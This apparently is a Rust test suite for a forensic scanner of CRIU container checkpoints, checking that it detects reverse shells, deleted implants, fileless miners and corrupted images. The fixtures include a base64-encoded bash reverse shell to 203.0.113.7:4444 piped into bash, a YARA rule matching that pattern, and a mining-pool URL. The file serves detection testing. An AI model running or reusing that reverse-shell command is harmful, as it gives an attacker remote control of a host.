//! Container checkpoints built in code (issue 24): CRIU's images encoded here (a small
//! protobuf encoder, the image framing) and packed into an archive the way Podman and CRI-O
//! write it, with a shell whose standard streams are a TCP connection and a deleted binary
//! still open; then hostile shapes (a cut image, a size past the end, a wrong magic, garbage
//! pages, a cut archive).

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::util::{run, run_json, validate_against_schema};

// ---- a protobuf encoder (proto2 wire format) ----

fn varint(mut v: u64, out: &mut Vec<u8>) {
    while v >= 0x80 {
        out.push((v as u8) | 0x80);
        v >>= 7;
    }
    out.push(v as u8);
}

#[derive(Clone, Default)]
struct Msg(Vec<u8>);

impl Msg {
    fn u(mut self, field: u32, v: u64) -> Self {
        varint(u64::from(field) << 3, &mut self.0);
        varint(v, &mut self.0);
        self
    }
    fn sint(self, field: u32, v: i64) -> Self {
        self.u(field, ((v << 1) ^ (v >> 63)) as u64)
    }
    fn bytes(mut self, field: u32, b: &[u8]) -> Self {
        varint((u64::from(field) << 3) | 2, &mut self.0);
        varint(b.len() as u64, &mut self.0);
        self.0.extend_from_slice(b);
        self
    }
    fn s(self, field: u32, v: &str) -> Self {
        self.bytes(field, v.as_bytes())
    }
    fn m(self, field: u32, m: Msg) -> Self {
        self.bytes(field, &m.0)
    }
}

const COMMON: u32 = 0x5456_4319;

/// An image: CRIU's common magic, the image's own, then each entry as size + bytes.
fn image(magic: u32, entries: &[Msg]) -> Vec<u8> {
    let mut v = Vec::new();
    if magic != 0x5831_3116 {
        v.extend(COMMON.to_le_bytes());
    }
    v.extend(magic.to_le_bytes());
    for e in entries {
        v.extend((e.0.len() as u32).to_le_bytes());
        v.extend(&e.0);
    }
    v
}

/// An IPv4 address as CRIU keeps it (the address bytes read as a little-endian u32).
fn ip(a: [u8; 4]) -> u64 {
    u64::from(u32::from_le_bytes(a))
}

const PAGE: u64 = 4096;
/// The deleted binary's content, as CRIU keeps it in a ghost file.
const GHOST: &[u8] = b"\x7fELF\x02\x01\x01 the deleted implant";
const STACK: u64 = 0x7ffd_0000;
/// Where bash's argv is on its stack page.
const ARGV_AT: u64 = STACK + 0x100;
const ARGV: &[u8] = b"bash\0-i\0";

fn core(comm: &str, uid: u64) -> Msg {
    let regs = Msg::default().u(17, 0x401000); // user_x86_regs_entry.ip
    let ti = Msg::default().u(1, 0).m(2, regs);
    let creds =
        Msg::default().u(1, uid).u(2, uid).u(3, uid).u(4, uid).u(5, 0).u(6, 0).u(7, 0).u(8, 0).u(13, 0);
    let tc = Msg::default().u(1, 1).u(2, 0).u(3, 0).u(4, 0).u(5, 0).s(6, comm);
    let th = Msg::default().u(1, 0).u(2, 0).m(10, creds);
    Msg::default().u(1, 1).m(2, ti).m(3, tc).m(5, th)
}

fn ids(files_id: u64) -> Msg {
    Msg::default().u(1, files_id).u(2, files_id).u(3, files_id).u(4, files_id)
}

fn fd(id: u64, kind: u64, n: u64) -> Msg {
    Msg::default().u(1, id).u(2, 0).u(3, kind).u(4, n)
}

fn reg(id: u64, name: &str, mode: u64) -> Msg {
    let reg = Msg::default().u(1, id).u(2, 0).u(3, 0).m(5, Msg::default()).s(6, name).u(10, mode);
    Msg::default().u(1, 1).u(2, id).m(3, reg)
}

fn inet(id: u64, state: u64, src: ([u8; 4], u64), dst: ([u8; 4], u64)) -> Msg {
    let sk = Msg::default()
        .u(1, id)
        .u(2, 9000 + id)
        .u(3, 2)
        .u(4, 1)
        .u(5, 6)
        .u(6, state)
        .u(7, src.1)
        .u(8, dst.1)
        .u(9, 0)
        .u(10, 0)
        .u(11, ip(src.0))
        .u(12, ip(dst.0));
    Msg::default().u(1, 4).u(2, id).m(4, sk)
}

/// The pages of bash: one stack page with argv, and a command in its heap.
fn pages() -> Vec<u8> {
    let mut p = vec![0u8; 2 * PAGE as usize];
    let at = (ARGV_AT - STACK) as usize;
    p[at..at + ARGV.len()].copy_from_slice(ARGV);
    let cmd = b"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash\0";
    p[PAGE as usize + 64..PAGE as usize + 64 + cmd.len()].copy_from_slice(cmd);
    p
}

/// Every image of the dump: nginx (pid 1) listening, bash (pid 42) on a TCP connection to
/// 203.0.113.7:4444 with a deleted binary open.
fn images() -> Vec<(String, Vec<u8>)> {
    let vma = |start: u64, end: u64, prot: u64, status: u64, shmid: u64| {
        Msg::default().u(1, start).u(2, end).u(3, 0).u(4, shmid).u(5, prot).u(6, 2).u(7, status).sint(8, -1)
    };
    let mm42 = Msg::default()
        .u(1, 0x400000)
        .u(2, 0x401000)
        .u(3, 0)
        .u(4, 0)
        .u(5, STACK)
        .u(6, 0)
        .u(7, 0)
        .u(8, ARGV_AT)
        .u(9, ARGV_AT + ARGV.len() as u64)
        .u(10, 0)
        .u(11, 0)
        .u(12, 10)
        .m(14, vma(0x400000, 0x401000, 5, 1 | 0x40, 10))
        .m(14, vma(0x500000, 0x501000, 5, 1 | 0x40, 30))
        .m(14, vma(STACK, STACK + 2 * PAGE, 3, 1 | 2 | 0x200, 0));
    let mm1 = Msg::default().u(12, 11).m(14, vma(0x400000, 0x401000, 5, 1 | 0x40, 11));
    vec![
        ("inventory.img".into(), image(0x5831_3116, &[Msg::default().u(1, 2).u(2, 1).u(4, 1)])),
        (
            "pstree.img".into(),
            image(
                0x5027_3030,
                &[
                    Msg::default().u(1, 1).u(2, 0).u(3, 1).u(4, 1).u(5, 1),
                    Msg::default().u(1, 42).u(2, 1).u(3, 42).u(4, 1).u(5, 42),
                ],
            ),
        ),
        ("core-1.img".into(), image(0x5505_3847, &[core("nginx", 0)])),
        ("core-42.img".into(), image(0x5505_3847, &[core("bash", 33)])),
        ("ids-1.img".into(), image(0x5443_2030, &[ids(1)])),
        ("ids-42.img".into(), image(0x5443_2030, &[ids(2)])),
        ("mm-1.img".into(), image(0x5749_2820, &[mm1])),
        ("mm-42.img".into(), image(0x5749_2820, &[mm42])),
        (
            "pagemap-42.img".into(),
            image(0x5608_4025, &[Msg::default().u(1, 1), Msg::default().u(1, STACK).u(2, 2).u(4, 4)]),
        ),
        ("fdinfo-1.img".into(), image(0x5621_3732, &[fd(21, 4, 6)])),
        (
            "fdinfo-2.img".into(),
            image(0x5621_3732, &[fd(20, 4, 0), fd(20, 4, 1), fd(20, 4, 2), fd(30, 1, 3)]),
        ),
        (
            "files.img".into(),
            image(
                0x5630_3138,
                &[
                    reg(10, "/bin/bash", 0o100755),
                    reg(11, "/usr/sbin/nginx", 0o100755),
                    inet(20, 1, ([10, 88, 0, 9], 40000), ([203, 0, 113, 7], 4444)),
                    inet(21, 10, ([0, 0, 0, 0], 80), ([0, 0, 0, 0], 0)),
                    reg(30, "/tmp/.x/kworkerd", 0o100755),
                ],
            ),
        ),
        ("remap-fpath.img".into(), image(0x5913_3954, &[Msg::default().u(1, 30).u(2, 31).u(3, 1)])),
        ("ghost-file-31.img".into(), {
            let mut g = image(
                0x5258_3605,
                &[Msg::default().u(1, 0).u(2, 0).u(3, 0o100755).u(10, GHOST.len() as u64)],
            );
            g.extend(GHOST);
            g
        }),
        ("pages-1.img".into(), pages()),
    ]
}

const ID: &str = "4a3c9e1f5b7d2e8a6c0f1b3d5e7a9c2e4f6a8b0d1c3e5f7a9b2c4d6e8f0a1b3c";

fn metadata() -> Vec<(String, Vec<u8>)> {
    let config = format!(
        r#"{{"id":"{ID}","name":"web","rootfsImageName":"docker.io/library/nginx:latest","runtime":"crun","createdTime":"2026-12-01T10:00:00Z","checkpointedTime":"2026-12-01T12:00:00Z"}}"#
    );
    vec![
        ("config.dump".into(), config.into_bytes()),
        ("spec.dump".into(), br#"{"annotations":{"io.container.manager":"libpod"}}"#.to_vec()),
        (
            "network.status".into(),
            br#"{"podman":{"interfaces":{"eth0":{"subnets":[{"ipnet":"10.88.0.9/16","gateway":"10.88.0.1"}],"mac_address":"aa:bb:cc:dd:ee:ff"}}}}"#.to_vec(),
        ),
        ("deleted.files".into(), br#"["/var/log/nginx/access.log"]"#.to_vec()),
    ]
}

/// A tar of `files` (path, bytes).
fn tar(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut t = tar::Builder::new(Vec::new());
    for (n, b) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(b.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(1_764_590_400);
        h.set_cksum();
        t.append_data(&mut h, n, b.as_slice()).unwrap();
    }
    t.into_inner().unwrap()
}

/// The archive: metadata at the top, the images below `checkpoint/`, and a rootfs-diff.tar
/// with a dropped file; `edit` changes the images first.
fn archive(dir: &Path, name: &str, edit: impl Fn(&mut Vec<(String, Vec<u8>)>)) -> PathBuf {
    let mut imgs = images();
    edit(&mut imgs);
    let mut files = metadata();
    files.extend(imgs.into_iter().map(|(n, b)| (format!("checkpoint/{n}"), b)));
    let rootfs = tar(&[("tmp/.x/kworkerd".into(), b"\x7fELF fake".to_vec())]);
    files.push(("rootfs-diff.tar".into(), rootfs));
    let p = dir.join(name);
    std::fs::write(&p, tar(&files)).unwrap();
    p
}

fn set(imgs: &mut [(String, Vec<u8>)], name: &str, f: impl Fn(&mut Vec<u8>)) {
    let img = imgs.iter_mut().find(|(n, _)| n == name).unwrap_or_else(|| panic!("no image {name}"));
    f(&mut img.1);
}

fn findings<'a>(b: &'a Value, rule: &str) -> Vec<&'a Value> {
    b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == rule).collect()
}

fn diags(b: &Value) -> Vec<String> {
    b["diagnostics"].as_array().unwrap().iter().map(|d| format!("{} {}", d["level"], d["message"])).collect()
}

#[test]
fn reverse_shell_and_deleted_binary_in_a_checkpoint() {
    let dir = tempfile::tempdir().unwrap();
    let p = archive(dir.path(), "checkpoint.tar", |_| {});
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "checkpoint");
    assert!(diags(b).iter().all(|d| !d.starts_with("\"error\"")), "{:?}", diags(b));
    // The processes: bash's command line from its stack page, its descriptors.
    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
    assert_eq!(procs.len(), 2);
    let bash = procs.iter().find(|p| p["pid"] == 42).unwrap();
    assert_eq!(bash["cmd"], "bash -i");
    assert_eq!(bash["ppid"], 1);
    assert_eq!(bash["uid"], 33);
    assert_eq!(bash["extra"]["fd 0"], "tcp 10.88.0.9:40000 -> 203.0.113.7:4444 ESTABLISHED");
    assert_eq!(bash["extra"]["fd 3"], "/tmp/.x/kworkerd (deleted)");
    assert_eq!(bash["container"]["id"], ID);
    let nginx = procs.iter().find(|p| p["pid"] == 1).unwrap();
    assert_eq!(nginx["cmd"], "/usr/sbin/nginx", "no pages: the program's path");
    assert_eq!(nginx["extra"]["fd 6"], "tcp 0.0.0.0:80 LISTEN");
    // The reverse shell: critical, the peer as the callback.
    let rs = findings(b, "checkpoint.reverse-shell");
    assert_eq!(rs.len(), 1, "{}", b["findings"]);
    assert_eq!(rs[0]["severity"], "critical");
    assert_eq!(rs[0]["owner"]["id"], ID);
    let iocs = rs[0]["iocs"].as_array().unwrap();
    assert!(
        iocs.iter()
            .any(|i| i["type"] == "endpoint" && i["value"] == "203.0.113.7:4444" && i["role"] == "callback"),
        "{iocs:?}"
    );
    assert_eq!(rs[0]["evidence"][0]["members"][0], "checkpoint/fdinfo-2.img");
    // The deleted binary, open and mapped executable.
    let del = findings(b, "checkpoint.deleted-exe");
    assert_eq!(del.len(), 1);
    assert_eq!(del[0]["severity"], "high");
    assert!(del[0]["summary"].as_str().unwrap().contains("/tmp/.x/kworkerd"));
    let sha: String = {
        use sha2::Digest;
        sha2::Sha256::digest(GHOST).iter().map(|b| format!("{b:02x}")).collect()
    };
    assert!(
        del[0]["iocs"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["type"] == "sha256" && i["value"] == sha.as_str() && i["role"] == "dropped-file"),
        "the deleted binary's content, kept by CRIU, is hashed: {}",
        del[0]
    );
    // The base64 reverse shell in bash's heap, located by pages image and offset.
    let mem = findings(b, "checkpoint.memory-signature");
    assert!(!mem.is_empty(), "{}", b["findings"]);
    assert_eq!(mem[0]["evidence"][0]["members"][0], "checkpoint/pages-1.img");
    assert_eq!(mem[0]["evidence"][0]["offset"], PAGE + 64);
    assert!(mem[0]["summary"].as_str().unwrap().contains(&format!("at {:#x}", STACK + PAGE + 64)));
    // The container: its record, its changes, its verdict.
    let c = &b["containers"][0];
    assert_eq!(c["name"], "web");
    assert_eq!(c["network"]["ip_address"], "10.88.0.9");
    assert_eq!(c["checkpoint"]["arch"], "x86_64");
    let verdict = b["verdicts"].as_array().unwrap().iter().find(|x| x["id"] == ID).unwrap();
    assert_eq!(verdict["status"], "compromised", "{verdict}");
    let hosts = b["hosts"].as_array().unwrap();
    let attacker = hosts.iter().find(|h| h["value"] == "203.0.113.7").expect("the peer is a host");
    assert_eq!(attacker["role"], "attacker");
    assert!(b["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["kind"] == "file-change" && e["message"].as_str().unwrap().contains("/tmp/.x/kworkerd")));
    // Same evidence, same bytes.
    let (again, _) = run_json(&["scan", p.to_str().unwrap()]);
    assert_eq!(strip_run(&v), strip_run(&again));
}

fn strip_run(v: &Value) -> Value {
    let mut v = v.clone();
    if let Some(o) = v.as_object_mut() {
        o.remove("run");
        o.remove("generated");
    }
    v
}

#[test]
fn text_report_shows_sockets_files_and_findings() {
    let dir = tempfile::tempdir().unwrap();
    let gz = {
        // gzip-wrapped, as `podman container checkpoint --export x.tar.gz` writes it.
        let p = archive(dir.path(), "raw.tar", |_| {});
        let out = std::process::Command::new("gzip").arg("-k").arg(&p).status().unwrap();
        assert!(out.success());
        dir.path().join("raw.tar.gz")
    };
    let out = run(&["scan", gz.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("fd 0: tcp 10.88.0.9:40000 -> 203.0.113.7:4444 ESTABLISHED"), "{text}");
    assert!(text.contains("fd 3: /tmp/.x/kworkerd (deleted)"), "{text}");
    assert!(text.contains("checkpoint.reverse-shell"), "{text}");
    assert!(text.contains("COMPROMISED"), "{text}");
}

#[test]
fn hostile_images_are_diagnostics_and_the_rest_is_read() {
    let dir = tempfile::tempdir().unwrap();
    // A size larger than the file, a cut image, a wrong magic, garbage pages.
    let p = archive(dir.path(), "hostile.tar", |imgs| {
        set(imgs, "core-42.img", |b| {
            b.truncate(8);
            b.extend(1000u32.to_le_bytes());
            b.extend([0x08, 0x01]);
        });
        set(imgs, "fdinfo-1.img", |b| b.truncate(b.len() - 3));
        set(imgs, "mm-1.img", |b| b[4..8].copy_from_slice(&0x5505_3847u32.to_le_bytes()));
        set(imgs, "pages-1.img", |b| {
            *b = (0..5000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
        });
    });
    let (v, code) = run_json(&["scan", p.to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let d = diags(b).join("\n");
    assert!(d.contains("core-42.img") || b["diagnostics"].to_string().contains("core-42.img"), "{d}");
    assert!(d.contains("says 1000 bytes, 2 are left"), "{d}");
    assert!(d.contains("CRIU image cut short"), "{d}");
    assert!(d.contains("is not that of a mm-1.img image"), "{d}");
    assert!(
        d.contains("the page map lists 8192 bytes of pages for pid 42, the pages image holds 5000"),
        "{d}"
    );
    assert_eq!(code & 1, 1, "unreadable evidence sets exit bit 1");
    // Still read: both processes, the reverse shell (files and fdinfo-2 are intact).
    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
    assert_eq!(procs.len(), 2);
    let bash = procs.iter().find(|p| p["pid"] == 42).unwrap();
    assert_eq!(bash["comm"], Value::Null, "its core did not decode");
    assert_ne!(bash["cmd"], "bash -i", "garbage pages hold no argv");
    assert_eq!(findings(b, "checkpoint.reverse-shell").len(), 0, "no program name: no shell known");
    assert_eq!(findings(b, "checkpoint.deleted-exe").len(), 1);
}

#[test]
fn cut_archives_empty_files_and_garbage() {
    let dir = tempfile::tempdir().unwrap();
    let p = archive(dir.path(), "full.tar", |_| {});
    let full = std::fs::read(&p).unwrap();
    // Cut in the middle of the images: what came before is analysed.
    let cut = dir.path().join("cut.tar");
    std::fs::write(&cut, &full[..full.len() * 2 / 3]).unwrap();
    let (v, _) = run_json(&["scan", cut.to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "checkpoint");
    assert!(diags(b).join("\n").contains("could not be read to its end"), "{:?}", diags(b));
    assert_eq!(b["containers"][0]["name"], "web", "config.dump came first");
    // A lone image file: sniffed by its magic, listed; garbage after a CRIU head too.
    let lone = dir.path().join("core-42.img");
    std::fs::write(&lone, &images().iter().find(|(n, _)| n == "core-42.img").unwrap().1).unwrap();
    let (v, _) = run_json(&["scan", lone.to_str().unwrap()]);
    assert_eq!(v["bundles"][0]["artifacts"][0]["kind"], "criu-image");
    // A bare images folder with no pstree: said so, no panic.
    let bare = dir.path().join("bare");
    std::fs::create_dir(&bare).unwrap();
    for (n, b) in images().iter().filter(|(n, _)| n != "pstree.img") {
        std::fs::write(bare.join(n), b).unwrap();
    }
    let (v, _) = run_json(&["scan", bare.to_str().unwrap()]);
    assert!(diags(&v["bundles"][0]).join("\n").contains("no process tree"), "{:?}", diags(&v["bundles"][0]));
    // The same folder with its pstree: one checkpoint, the reverse shell found.
    std::fs::write(bare.join("pstree.img"), &images().iter().find(|(n, _)| n == "pstree.img").unwrap().1)
        .unwrap();
    let (v, _) = run_json(&["scan", bare.to_str().unwrap()]);
    assert_eq!(findings(&v["bundles"][0], "checkpoint.reverse-shell").len(), 1);
}

/// A third task, `kworkerd` (pid 77): its program a memfd (fileless), connected to a pool's
/// stratum port, its memory naming the pool's URL.
fn with_fileless_miner(imgs: &mut Vec<(String, Vec<u8>)>) {
    let pstree = image(
        0x5027_3030,
        &[
            Msg::default().u(1, 1).u(2, 0).u(3, 1).u(4, 1).u(5, 1),
            Msg::default().u(1, 42).u(2, 1).u(3, 42).u(4, 1).u(5, 42),
            Msg::default().u(1, 77).u(2, 1).u(3, 77).u(4, 1).u(5, 77),
        ],
    );
    set(imgs, "pstree.img", |b| *b = pstree.clone());
    let memfd = Msg::default()
        .u(1, 18)
        .u(2, 40)
        .m(20, Msg::default().u(1, 40).u(2, 2).u(3, 0).m(4, Msg::default()).u(5, 5));
    let pool = inet(41, 1, ([10, 88, 0, 9], 51000), ([198, 51, 100, 9], 3333));
    set(imgs, "files.img", |b| {
        b.extend((memfd.0.len() as u32).to_le_bytes());
        b.extend(&memfd.0);
        b.extend((pool.0.len() as u32).to_le_bytes());
        b.extend(&pool.0);
    });
    let exe_vma = Msg::default()
        .u(1, 0x400000)
        .u(2, 0x480000)
        .u(3, 0)
        .u(4, 40)
        .u(5, 5)
        .u(6, 1)
        .u(7, 1 | 0x80 | 0x4000)
        .sint(8, -1);
    let heap = Msg::default()
        .u(1, 0x600000)
        .u(2, 0x601000)
        .u(3, 0)
        .u(4, 0)
        .u(5, 3)
        .u(6, 0x22)
        .u(7, 1 | 0x200)
        .sint(8, -1);
    let mm = Msg::default().u(12, 40).m(14, exe_vma).m(14, heap);
    let mut page = vec![0u8; PAGE as usize];
    let url = b"stratum+tcp://pool.minexmr.example:3333";
    page[16..16 + url.len()].copy_from_slice(url);
    imgs.extend([
        ("core-77.img".to_string(), image(0x5505_3847, &[core("kworkerd", 0)])),
        ("ids-77.img".into(), image(0x5443_2030, &[ids(3)])),
        ("mm-77.img".into(), image(0x5749_2820, &[mm])),
        ("fdinfo-3.img".into(), image(0x5621_3732, &[fd(41, 4, 5)])),
        (
            "pagemap-77.img".into(),
            image(0x5608_4025, &[Msg::default().u(1, 2), Msg::default().u(1, 0x600000).u(2, 1).u(4, 4)]),
        ),
        ("pages-2.img".into(), page),
        (
            "memfd.img".into(),
            image(
                0x4846_3235,
                &[Msg::default().s(1, "kworker").u(2, 0).u(3, 0).u(4, 512000).u(5, 0).u(6, 0).u(7, 5)],
            ),
        ),
    ]);
}

#[test]
fn fileless_miner_in_a_checkpoint() {
    let dir = tempfile::tempdir().unwrap();
    let p = archive(dir.path(), "miner.tar", with_fileless_miner);
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
    let k = procs.iter().find(|p| p["pid"] == 77).expect("pid 77");
    assert_eq!(k["extra"]["fd 5"], "tcp 10.88.0.9:51000 -> 198.51.100.9:3333 ESTABLISHED");
    let memfd = findings(b, "checkpoint.memfd-exec");
    assert_eq!(memfd.len(), 1, "{}", b["findings"]);
    assert_eq!(memfd[0]["severity"], "critical");
    assert!(memfd[0]["summary"].as_str().unwrap().contains("memfd:kworker"), "{}", memfd[0]["summary"]);
    let pool = findings(b, "checkpoint.mining-pool");
    assert_eq!(pool.len(), 1, "{}", b["findings"]);
    let iocs = pool[0]["iocs"].as_array().unwrap();
    assert!(iocs.iter().any(|i| i["value"] == "198.51.100.9:3333" && i["role"] == "mining-pool"), "{iocs:?}");
    // The pool URL in its memory: an indicator, located in pages-2.img.
    let ind = findings(b, "checkpoint.memory-indicators");
    let mine: Vec<&&Value> =
        ind.iter().filter(|f| f["summary"].as_str().unwrap().starts_with("pid 77")).collect();
    assert_eq!(mine.len(), 1, "{}", b["findings"]);
    assert_eq!(mine[0]["severity"], "info");
    assert_eq!(mine[0]["evidence"][0]["members"][0], "checkpoint/pages-2.img");
    assert_eq!(mine[0]["evidence"][0]["offset"], 16);
    assert!(
        mine[0]["iocs"].as_array().unwrap().iter().any(|i| i["role"] == "mining-pool"),
        "{}",
        mine[0]["iocs"]
    );
    // The reverse shell of the first test is still there, and nothing is lost to the third task.
    assert_eq!(findings(b, "checkpoint.reverse-shell").len(), 1);
}

/// A pod archive (CRI-O / Podman pod checkpoint): `pod.dump` at the top, one folder per
/// container; the second container's dump uses the older per-kind file images
/// (`reg-files.img`, `inetsk.img`, `unixsk.img`) instead of `files.img`.
#[test]
fn pod_archive_with_two_containers_and_older_file_images() {
    let dir = tempfile::tempdir().unwrap();
    let mut files: Vec<(String, Vec<u8>)> =
        vec![("pod.dump".into(), br#"{"metadata":{"name":"shop","namespace":"prod"}}"#.to_vec())];
    for (n, b) in metadata() {
        files.push((format!("a1/{n}"), b));
    }
    for (n, b) in images() {
        files.push((format!("a1/checkpoint/{n}"), b));
    }
    files.push((
        "b2/config.dump".into(),
        br#"{"id":"b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2","name":"sidecar"}"#.to_vec(),
    ));
    files.push(("b2/spec.dump".into(), br#"{"annotations":{"io.container.manager":"cri-o"}}"#.to_vec()));
    let reg =
        Msg::default().u(1, 10).u(2, 0).u(3, 0).m(5, Msg::default()).s(6, "/usr/bin/python3").u(10, 0o100755);
    let sk = Msg::default()
        .u(1, 20)
        .u(2, 7)
        .u(3, 2)
        .u(4, 1)
        .u(5, 6)
        .u(6, 1)
        .u(7, 5555)
        .u(8, 8443)
        .u(9, 0)
        .u(10, 0)
        .u(11, ip([10, 88, 0, 10]))
        .u(12, ip([192, 0, 2, 50]));
    let usk = Msg::default()
        .u(1, 21)
        .u(2, 8)
        .u(3, 1)
        .u(4, 1)
        .u(5, 0)
        .u(6, 0)
        .u(7, 0)
        .u(8, 0)
        .bytes(11, b"/run/app.sock");
    let b2 = [
        ("inventory.img", image(0x5831_3116, &[Msg::default().u(1, 2).u(2, 1)])),
        ("pstree.img", image(0x5027_3030, &[Msg::default().u(1, 1).u(2, 0).u(3, 1).u(4, 1)])),
        ("core-1.img", image(0x5505_3847, &[core("python3", 1000)])),
        ("ids-1.img", image(0x5443_2030, &[ids(1)])),
        ("mm-1.img", image(0x5749_2820, &[Msg::default().u(12, 10)])),
        ("fdinfo-1.img", image(0x5621_3732, &[fd(20, 4, 0), fd(21, 5, 4)])),
        ("reg-files.img", image(0x5036_3636, &[reg])),
        ("inetsk.img", image(0x5644_3851, &[sk])),
        ("unixsk.img", image(0x5437_3943, &[usk])),
    ];
    for (n, b) in b2 {
        files.push((format!("b2/checkpoint/{n}"), b));
    }
    let p = dir.path().join("pod.tar");
    std::fs::write(&p, tar(&files)).unwrap();
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "checkpoint");
    let mut names: Vec<&str> =
        b["containers"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    names.sort();
    assert_eq!(names, ["sidecar", "web"]);
    for c in b["containers"].as_array().unwrap() {
        assert_eq!(c["config"]["labels"]["io.kubernetes.pod.name"], "shop", "{}", c["name"]);
        assert_eq!(c["config"]["labels"]["io.kubernetes.pod.namespace"], "prod");
    }
    let procs = b["processes"][0]["capture"]["processes"].as_array().unwrap();
    assert_eq!(procs.len(), 3, "both containers' processes in one capture");
    let py = procs.iter().find(|p| p["comm"] == "python3").unwrap();
    assert_eq!(py["container"]["name"], "sidecar");
    assert_eq!(py["locator"]["members"][0], "b2/checkpoint/core-1.img");
    assert_eq!(py["extra"]["exe"], "/usr/bin/python3");
    assert_eq!(py["extra"]["fd 4"], "unix stream /run/app.sock");
    // python3 with its stdin on a TCP connection: the same rule, the sidecar's.
    let rs = findings(b, "checkpoint.reverse-shell");
    assert_eq!(rs.len(), 2, "{}", b["findings"]);
    let side = rs.iter().find(|f| f["owner"]["name"] == "sidecar").expect("the sidecar's reverse shell");
    assert!(side["iocs"].as_array().unwrap().iter().any(|i| i["value"] == "192.0.2.50:8443"));
    let verdicts = b["verdicts"].as_array().unwrap();
    for name in ["web", "sidecar"] {
        let v = verdicts.iter().find(|v| v["container"] == name).unwrap();
        assert_eq!(v["status"], "compromised", "{v}");
    }
}

#[test]
fn yara_rules_scan_checkpointed_memory_located_by_process_and_mapping() {
    let dir = tempfile::tempdir().unwrap();
    let p = archive(dir.path(), "checkpoint.tar", |_| {});
    let rules = dir.path().join("mem.yar");
    std::fs::write(
        &rules,
        "rule Mem_B64_Shell { meta: author = \"Tester\" score = 90 strings: $p = \"| base64 -d | bash\" condition: $p and filepath == \"\" }\n\
         rule Fake_Elf { strings: $e = \"ELF fake\" condition: $e and filepath == \"/tmp/.x/kworkerd\" and filetype == \"ELF\" }\n",
    )
    .unwrap();
    let (v, _) = run_json(&["scan", p.to_str().unwrap(), "--yara", rules.to_str().unwrap()]);
    let b = &v["bundles"][0];
    let hits = findings(b, "yara.mem.Mem_B64_Shell");
    assert_eq!(hits.len(), 1, "{}", b["findings"]);
    let h = hits[0];
    assert_eq!(h["severity"], "high");
    assert_eq!(h["owner"]["id"], ID);
    assert_eq!(h["evidence"][0]["members"][0], "checkpoint/pages-1.img");
    let at = PAGE + 64 + b"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= ".len() as u64;
    assert_eq!(h["evidence"][0]["offset"], at);
    let s = h["summary"].as_str().unwrap();
    assert!(
        s.contains("checkpointed memory of pid 42") && s.contains(&format!("at {:#x}", STACK + at)),
        "{s}"
    );
    assert!(h["title"].as_str().unwrap().starts_with("YARA rule Mem_B64_Shell by Tester (mem.yar)"), "{h}");
    // The files of rootfs-diff.tar are scanned too, with their own path and type.
    let files = findings(b, "yara.mem.Fake_Elf");
    assert_eq!(files.len(), 1, "{}", b["findings"]);
    let ev = &files[0]["evidence"][0];
    assert!(ev["artifact"].as_str().unwrap().ends_with("checkpoint.tar"), "{ev}");
    assert_eq!(ev["members"], serde_json::json!(["rootfs-diff.tar", "tmp/.x/kworkerd"]));
    assert_eq!(ev["offset"], 1);
    assert_eq!(files[0]["owner"]["id"], ID);
}
